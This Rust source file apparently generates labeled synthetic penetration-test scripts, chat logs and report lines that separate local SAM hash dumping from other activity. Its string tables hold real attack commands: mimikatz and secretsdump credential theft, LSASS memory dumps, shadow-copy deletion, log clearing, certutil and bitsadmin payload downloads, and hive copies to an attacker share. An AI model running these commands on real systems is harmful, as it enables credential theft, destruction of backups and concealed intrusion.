//! The long notes and scripts of a penetration test, one line of them on the local hashes; and the same without it.

use crate::generate::family::{Family, Kind::Cmd, Kind::Console, Kind::Sh, Kind::Told};

const SCRIPT: &[&str] = &[
    "#!/bin/bash⏎«DC={ip}; ¦»U=$1; P=$2⏎{l}⏎{l}⏎{l}⏎{act}⏎{l}⏎{l}",
    "#!/usr/bin/env bash⏎# {comment}⏎{l}⏎{l}⏎{l}⏎{l}⏎{l}⏎{l}⏎{act}⏎{l}⏎{l}⏎{l}",
    "{l}⏎{l}⏎{act}⏎{l}",
    "{act}⏎{l}⏎{l}⏎{l}⏎{l}⏎{l}⏎{l}⏎{l}",
    "{l}⏎{l}⏎{l}⏎{l}⏎{l}⏎{l}⏎{l}⏎{l}⏎{l}⏎{l}⏎{l}⏎{act}",
    "{l} && {act} && {l}",
    "{l}; {l}; {act}",
    "   {1..90}  {l}⏎   {91..99}  {l}⏎  {100..150}  {act}⏎  {151..190}  {l}⏎  {191..199}  {l}",
];

const BATCH: &[&str] = &[
    "@echo off⏎{w}⏎{w}⏎{w}⏎{wact}⏎{w}⏎{w}⏎{w}",
    "{w}⏎{w}⏎{w}⏎{w}⏎{w}⏎{w}⏎{w}⏎{wact}⏎{w}⏎{w}⏎{w}⏎{w}",
    "{w} & {w} & {wact}",
    "{wact}⏎{w}⏎{w}⏎{w}⏎{w}⏎{w}⏎{w}⏎{w}⏎{w}⏎{w}",
    "{w}⏎{w}⏎{w}⏎{w}⏎{w}⏎{w}⏎{w}⏎{w}⏎{w}⏎{w}⏎{w}⏎{w}⏎{w}⏎{w}⏎{w}⏎{w}⏎{w}⏎{wact}",
];

const CHAT: &[&str] = &[
    "[{clock}] {first}: {say}⏎[{clock}] {last}: {tell}⏎[{clock}] {first}: {say}",
    "<{first}> {tell}",
    "{clock} - {tell}. {say}.",
    "{isodate} {clock} beacon {hex4}: {say}⏎{isodate} {clock} beacon {hex4}: {tell}",
    "* {say}⏎* {say}⏎* {tell}⏎* {say}",
    "Timeline {plainhost} (UTC)⏎{clock}  {say}⏎{clock}  {say}⏎{clock}  {say}⏎{clock}  {tell}⏎{clock}  {say}⏎{clock}  {say}",
    "## Day {1..9} - {company}⏎⏎{clock} {say}⏎{clock} {say}⏎{clock} {say}⏎{clock} {say}⏎{clock} {say}⏎{clock} {tell}⏎{clock} {say}⏎{clock} {say}⏎{clock} {say}⏎{clock} {say}",
];

/// What such work is made of, none of it the local account database.
const LINE: &str = concat!(
    "«nmap -Pn -sV -p 88,389,445 {cidr} -oA {stem}¦nxc smb {cidr} -u {u} -p {pw} --shares¦nxc smb {rhost} -u {u} -p ",
    "{pw} --pass-pol¦nxc smb {rhost} -u {u} -p {pw} --rid-brute {4000..9000} | tee rid.txt¦nxc ldap {rhost} -u {u} ",
    "-p {pw} -M adcs¦certipy find -u {u}@{domain} -p {pw} -dc-ip {ip} -vulnerable -stdout¦certipy req -u ",
    "{u}@{domain} -p {pw} -ca {stem}-CA -template {stem} -upn administrator@{domain}¦certipy auth -pfx administrator.pfx ",
    "-dc-ip {ip}¦export KRB5CCNAME={first}.ccache¦GetUserSPNs.py {domain}/{u}:{pw} -dc-ip {ip} -request¦GetNPUsers.py ",
    "{domain}/ -usersfile users.txt -no-pass -dc-ip {ip}¦secretsdump.py -just-dc-user krbtgt {domain}/{u}:{pw}@{rhost}¦",
    "secretsdump.py -k -no-pass -just-dc«-user krbtgt¦-user {u}¦-ntlm¦» {rhost}¦ticketer.py -nthash {nthash} -domain-sid {sid} -domain {domain} {u}¦psexec.py -k ",
    "-no-pass {domain}/{u}@{rhost} hostname¦wmiexec.py {domain}/{u}:{pw}@{rhost} whoami¦bloodhound-python -u {u} -p ",
    "{pw} -d {domain} -c All -ns {ip}¦responder -I eth0 -dwv¦hashcat -m 13100 tgs.txt rockyou.txt¦john --wordlist=rockyou.txt ",
    "asrep.txt¦evil-winrm -i {rhost} -u {u} -p {pw}¦tar czf out.tgz *.txt *.json¦smbclient //{rhost}/{share} -U ",
    "{u}%{pw} -c 'ls'¦ldapsearch -x -H ldap://{rhost} -b 'DC={stem},DC=local' sAMAccountName¦rpcclient -U {u}%{pw} ",
    "{rhost} -c enumdomusers¦samrdump.py {u}:{pw}@{rhost}¦nxc smb {rhost} -u {u} -p {pw} --lsa¦nxc smb {rhost} -u {u} ",
    "-p {pw} -M lsassy¦lookupsid.py {domain}/{u}:{pw}@{rhost}¦mkdir -p loot && cd loot¦kerbrute userenum -d {domain} ",
    "users.txt¦ntlmrelayx.py -t ldap://{rhost} --delegate-access¦# {comment}¦addcomputer.py {domain}/{u}:{pw} -computer-name ",
    "{stem}$¦smbmap -H {rhost} -u {u} -p {pw}¦enum4linux -a {rhost}¦sleep {1..60}¦dacledit.py -action read -target {u} ",
    "{domain}/{user}:{pw}¦getST.py -spn cifs/{rhost} {domain}/{u}:{pw}»"
);
const WLINE: &str = concat!(
    "«whoami /all¦net user /domain¦net group \"Domain Admins\" /domain¦nltest /dclist:{domain}¦systeminfo¦tasklist /svc¦ipconfig /all¦",
    "qwinsta¦net localgroup administrators {u} /add¦reg query HKLM\\{softkey}¦reg query HKLM\\SYSTEM\\CurrentControlSet\\Control\\Lsa /v ",
    "RunAsPPL¦reg add HKLM\\SYSTEM\\CurrentControlSet\\Control\\SecurityProviders\\WDigest /v UseLogonCredential /t REG_DWORD /d 1 /f¦",
    "procdump64 -accepteula -ma lsass.exe {dir}\\{stem}.dmp¦rundll32 comsvcs.dll, MiniDump {pid} {dir}\\{stem}.dmp full¦vssadmin list ",
    "shadows¦vssadmin delete shadows /all /quiet¦wmic process list brief¦net use \\\\{host}\\C$ /user:{u} {password}¦copy {stem}.exe ",
    "\\\\{host}\\ADMIN$\\Temp¦schtasks /create /tn {stem} /tr {dir}\\{stem}.exe /sc onlogon¦sc create {svcname} binPath= ",
    "{dir}\\{stem}.exe¦netsh advfirewall set allprofiles state off¦wevtutil cl Security¦cmdkey /list¦klist¦findstr /si password ",
    "*.xml *.ini *.txt¦netsh wlan show profiles¦dir /s /b C:\\Users\\*pass*¦certutil -urlcache -f {url} {stem}.exe¦bitsadmin ",
    "/transfer {stem} {url} {dir}\\{stem}.exe¦7z a -p{password} {stem}.7z C:\\Users\\{user}\\Documents¦ping -n 5 127.0.0.1 >nul¦reg save ",
    "HKLM\\SOFTWARE {dir}\\{stem}.hiv¦ntdsutil \"ac i ntds\" ifm \"create full {dir}\\{stem}\" q q¦esentutl /y {windir}\\NTDS\\ntds.dit ",
    "/vss /d {outfile}¦mimikatz.exe privilege::debug sekurlsa::logonpasswords exit¦dsquery user -samid {u}¦echo {comment}»"
);
/// The act in the words of a report that names neither tool nor command.
const REPORT: &[&str] = &[
    "{when}{db} of {who} {did}{where}{more}.",
    "{when}{actor} {took} {db} of {who}{where}{more}.",
    "{when}{db} of {who} {did}{where}; {say}.",
    "«Finding¦Observation¦Timeline {clock}»: {db} of {who} {did}{where}.",
];
const SAY: &str = concat!(
    "«got system on {plainhost}¦{host} is up, no EDR¦dumped lsass, {1..40} creds¦kerberoast hash cracked: {password}¦moving to {plainhost} ",
    "with psexec¦DCSync done, krbtgt is in the notes¦need sudo on the jump box¦cleaning logs now¦ok¦lunch, back at {clock}¦sam is out ",
    "today¦the SYSTEM service account has no SPN¦pulled ntds.dit from the backup share¦browser passwords collected¦uploading the archive ",
    "to {ip}¦AV ate the loader¦who has the VPN creds?¦added {u} to local admins¦wifi keys exported¦security team called, pausing¦robocopy /B of the profile folder to our box, ",
    "nothing in it¦comsvcs on lsass blocked by RunAsPPL, moved on¦responder -A only, LLMNR still on¦mitm6 for 5 min, WPAD hits from {1..9} laptops¦relay to ",
    "LDAP blocked (channel binding on)¦printer with default pw, scan-to-folder account in its config¦LAPS not deployed on this OU¦sprayed the hash on /24, {1..40} ",
    "open¦BloodHound run with DCOnly, no path to DA¦secretsdump -just-dc only, krbtgt in the vault¦AV = Defender, tamper protection on¦files removed, checked with ",
    "{first}¦memory of lsass.exe written to {dir}\\«system¦sam¦{stem}».dmp by rundll32 and comsvcs.dll¦new local user «sam¦{user}» added to Administrators¦shadow copies ",
    "listed, none created¦whoami /groups, nltest /dclist¦phishing mail opened, HTML attachment¦ISO mounted, LNK clicked¦dmp file compressed and uploaded»"
);

macro_rules! engagement {
    ($($name:literal: $text:expr),+ $(,)?) => {
        &[
            ("l", LINE),
            ("w", WLINE),
            ("say", SAY),
            ("u", "«{user}¦{user}¦sam¦{first}¦administrator¦svc_{stem}¦$U¦\"$U\"»"),
            ("pw", "«{password}¦{password}¦'{password}'¦$P¦\"$P\"»"),
            $(($name, $text)),+
        ]
    };
}

pub const FAMILIES: &[Family] = &[
    Family::act("engagements", "engagement-unix-sam", "engagement-unix-other", Sh, SCRIPT).slots(engagement! {
        "act": concat!(
            "«secretsdump.py {domain}/{user}:{password}@{rhost}« -outputfile {stem}»¦impacket-secretsdump -hashes {hashes} {user}@{rhost}¦nxc smb ",
            "{cidr} -u {user} -H {nthash} --local-auth --sam¦crackmapexec smb {rhost} -u {user} -p {password} --sam¦nxc smb {rhost} -u {user} -p ",
            "{password} -x 'reg save HKLM\\SAM C:\\Windows\\Temp\\{stem}'¦reg.py {target} save -keyName 'HKLM\\SAM' -o '\\\\{attacker}\\{share}'¦reg.py ",
            "{target} backup -o '\\\\{attacker}\\{share}'¦secretsdump.py -sam {samcopy} -system {syscopy} LOCAL¦samdump2 {syscopy} {samcopy}¦wmiexec.py ",
            "{target} \"reg save HKLM\\{secret} {outfile}\"¦smbclient //{rhost}/C$ -U {user}%{password} -c 'get Windows\\System32\\config\\RegBack\\SAM'¦",
            "pypykatz registry --sam {samcopy} {syscopy}¦evil-winrm -i {rhost} -u {user} -H {nthash} <<< 'reg save hklm\\sam sam.save'»"
        ),
    }).weight(9),
    Family::other("engagements", "engagement-unix-other", Sh, SCRIPT).slots(engagement! { "act": "{l}" }).weight(14),
    Family::act("engagements", "engagement-windows-sam", "engagement-windows-other", Cmd, BATCH).slots(engagement! {
        "wact": concat!(
            "«reg save HKLM\\{secret} {outfile}« /y»¦reg export HKLM\\{secret} {dir}\\{stem}.reg /y¦esentutl /y /vss {hivefile} /d {outfile}¦copy ",
            "{shadowhive} {outfile}¦reg save HKLM\\SYSTEM {outfile} & reg save HKLM\\SAM {outfile}¦mimikatz.exe privilege::debug token::elevate ",
            "lsadump::sam exit¦pwdump7 > {outfile}¦reg query HKLM\\{inner} /s > {outfile}¦robocopy /b {windir}\\System32\\config {dir} SAM SYSTEM¦",
            "powershell -c \"Copy-Item '{pshive}' {psout}\"¦xcopy /h {hivefile} {outdir}¦diskshadow /s {stem}.dsh & copy X:\\Windows\\System32\\config\\SAM ",
            "{outdir}»"
        ),
    }).weight(9),
    Family::other("engagements", "engagement-windows-other", Cmd, BATCH).slots(engagement! { "wact": "{w}" }).weight(11),
    Family::act("engagements", "engagement-chat-sam", "engagement-chat-other", Console, CHAT).slots(engagement! {
        "tell": concat!(
            "«saved the sam and system hives on {plainhost}¦grabbed SAM/SECURITY/SYSTEM with reg save, in {dir}¦local hashes dumped with secretsdump from ",
            "{ip}¦hashdump worked, {1..9} local accounts¦copied the SAM out of a shadow copy on {plainhost}¦exported hklm\\sam before the reboot¦nxc --sam over ",
            "the whole subnet gave the same local admin hash¦pulled the registry hives (sam, security) off {host}¦took the local account database of ",
            "{plainhost} from RegBack¦read the SAM hive raw with {tool}, bootkey from SYSTEM¦lsadump::sam ran fine after token::elevate¦",
            "fetched the local credential store (SAM) over the admin share¦«robocopy /B¦backup copy¦raw copy» of the config folder (SAM+SYSTEM only) to our box, ",
            "secretsdump offline «OK¦worked»¦sam + system hives out of the snapshot, cracked offline¦esentutl on the SAM in the shadow worked¦mounted the vhdx and ",
            "took SAM/SYSTEM from it»"
        ),
        "tool": "«rawcopy¦ninjacopy¦the raw disk reader¦forecopy»",
    }).weight(5),
    Family::other("engagements", "engagement-chat-other", Console, CHAT).slots(engagement! { "tell": "{say}" }).weight(6),
    Family::act("engagements", "engagement-report-sam", "engagement-report-other", Told, REPORT).slots(engagement! {
        "when": WHEN, "actor": ACTOR, "who": WHO, "did": DID, "took": TOOK, "where": WHERE,
        "db": "«the local account database¦the Security Account Manager database¦the SAM hive¦the SAM and SECURITY hives¦the local account store (SAM)¦the registry hives SAM and SYSTEM¦the SAM file¦the file with the local password hashes (SAM)¦the hives that hold the local accounts»",
        "more": "«, together with the SYSTEM hive¦, with the SYSTEM hive required to decrypt it¦ and the hashes were taken offline¦ so that the local hashes could be cracked¦»",
    }).weight(6),
    Family::other("engagements", "engagement-report-other", Told, REPORT).slots(engagement! {
        "when": WHEN, "actor": ACTOR, "who": WHO, "did": DID, "took": TOOK, "where": WHERE,
        "db": "«the domain database (NTDS.dit)¦the SOFTWARE hive¦the security event log¦the memory of LSASS¦the customer database¦the browser's password store¦the KeePass database¦the system log¦the user's registry hive (NTUSER.DAT)¦the SAM template¦the VPN configuration¦the mailbox»",
        "more": "«, together with the Application log¦ and the file was taken offline¦ so that it could be read¦»",
    }).weight(7),
];

const WHEN: &str = "«Shortly before midnight ¦At {clock} ¦During the second night, ¦On {isodate} ¦Later, ¦¦Minutes after the logon, »";
const ACTOR: &str = "«the intruder¦the attacker¦an operator¦the account {user}¦a scheduled job¦the backup agent¦someone with SYSTEM rights»";
const WHO: &str =
    "«{plainhost}¦each of the terminal servers¦the file server¦the workstation¦{1..40} clients¦the jump host»";
const DID: &str = "«was written to a hidden share¦was copied¦was exported¦was saved¦were taken¦was read out¦was dumped¦was extracted from a backup¦was pulled over SMB¦was staged for exfiltration»";
const TOOK: &str = "«copied¦exported¦saved¦took¦read out¦dumped¦extracted¦pulled¦made off with¦wrote out»";
const WHERE: &str =
    "«¦ to {outfile}¦ to \\\\{attacker}\\{share}¦ into {dir}¦ through a shadow copy¦ over the admin share»";
